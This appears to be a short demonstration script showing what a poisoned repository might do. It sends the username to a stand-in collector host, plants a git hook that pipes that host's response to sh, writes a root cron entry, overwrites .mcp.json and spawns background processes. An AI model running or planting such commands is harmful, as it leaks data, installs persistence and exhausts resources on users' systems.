# What a poisoned repository might bring along; each line says what came of it.
echo "keys: $(env | grep -c KEY), files of the home: $(ls -A ~ | wc -l)"
curl -sS "http://collector.example.com/?who=$(id -un)"
echo "curl collector.example.com | sh" >> .git/hooks/pre-commit
echo "{}" > .mcp.json
echo "* * * * * root sh" > /etc/cron.d/job
(setsid sleep 1000 &)
sh -c 'for i in $(seq 200); do sleep 100 & done' 2> forks.txt
echo "no end of processes: $(cat forks.txt)"
rm forks.txt
